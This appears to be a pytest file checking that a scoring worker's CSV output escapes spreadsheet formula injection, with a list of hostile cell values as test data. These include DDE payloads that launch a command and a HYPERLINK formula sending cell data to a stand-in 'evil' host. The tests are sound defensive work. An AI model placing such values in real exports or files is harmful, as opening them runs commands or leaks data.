"""Copied cells that a spreadsheet would run: as they are by default, harmless where the worker is told so."""

from __future__ import annotations

import csv
import io

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.commit import OUTCOME
from ledger.receipt import Outcome
from models.evidence.sources.labels import LateLabels
from models.scoring.table.limits import Limits
from tests.memory import MemoryBucket
from tests.worker_fixtures import dropped, scorer, table
from transport.bucket import get
from worker.scoring.score import Attempt, score_file
from worker.scoring.write import harmless

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x;=1+1",
    "x\n=1+1",
    "＝1+1",
)
HARMLESS = ("", "7", "-5", "+49", "-1,234.50", "1e-3", "+1.5E+10", "a-b", "a=b", "x@y.org", "2026-01-02", "'quoted'")


def safe(cell):
    return harmless(pa.array([cell], pa.string()))[0].as_py()


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_would_run_gets_an_apostrophe_and_loses_nothing(cell):
    made = safe(cell)

    assert made != cell
    assert made.replace("'", "") == cell.replace("'", "")
    for start in (made, *made.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n")):
        assert not start.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_and_other_text_stay_as_they_are(cell):
    assert safe(cell) == cell


def scored(ids, **limits):
    """The output's rows for a file with these ids, of which the second cell is the id."""
    bucket = MemoryBucket()
    text = io.StringIO()
    csv.writer(text).writerows([i, "red", "1", "30", "no"] for i in ids)
    event = dropped(bucket, "a.csv", table([text.getvalue()]))
    claim = score_file(bucket, Attempt(event, 1, "w"), scorer(), Limits(**limits))
    assert claim is not None
    assert Outcome.from_json(claim.metadata[OUTCOME]).rows == len(ids)
    return list(csv.reader(io.StringIO(get(bucket, claim.name).decode(), newline="")))[1:]


def test_by_default_every_id_comes_out_as_it_went_in():
    ids = [cell for cell in HOSTILE if "\r" not in cell] + list(HARMLESS)

    assert [row[1] for row in scored(ids)] == ids


def test_a_worker_told_to_be_spreadsheet_safe_lets_no_copied_cell_run():
    rows = scored([*HOSTILE, *HARMLESS], spreadsheet_safe=True)

    assert [row[1] for row in rows] == [safe(cell) for cell in (*HOSTILE, *HARMLESS)]


def test_an_error_that_quotes_a_cell_begins_with_our_own_words():
    # A column's name comes from the registry, and the quotation follows it: no such cell is a formula by itself
    lines = [f'1,red,"{cell}",30,no' for cell in ("=1+1", "x;=1+1", "@A1")]
    lines.append("2,red,1,30,no")
    for limits in (Limits(), Limits(spreadsheet_safe=True)):
        bucket = MemoryBucket()
        event = dropped(bucket, "a.csv", table(lines))
        claim = score_file(bucket, Attempt(event, 1, "w"), scorer(), limits)
        assert claim is not None
        errors = [row[-1] for row in csv.reader(io.StringIO(get(bucket, claim.name).decode()))][1:-1]
        assert all(error.startswith("weight: is not a number: ") for error in errors)
        # Where fields are separated by semicolons a formula may begin within one: made harmless like an id
        assert (";=" in errors[1]) is not limits.spreadsheet_safe


@given(st.lists(st.sampled_from([*HOSTILE, *HARMLESS]), unique=True), st.booleans(), st.booleans())
def test_labels_that_come_later_meet_their_rows_with_the_apostrophe_and_without(ids, predicted_safe, labelled_safe):
    written = [safe(cell) if predicted_safe else cell for cell in ids]
    late = LateLabels()
    late.add([safe(cell) if labelled_safe else cell for cell in ids], [f"label of {cell}" for cell in ids])

    found = late.truth(np.array(written, dtype=object)).tolist() if ids else []

    clear = [cell for cell in ids if cell.strip() and [other.strip() for other in ids].count(cell.strip()) == 1]
    assert [label for cell, label in zip(ids, found, strict=True) if cell in clear] == [f"label of {c}" for c in clear]
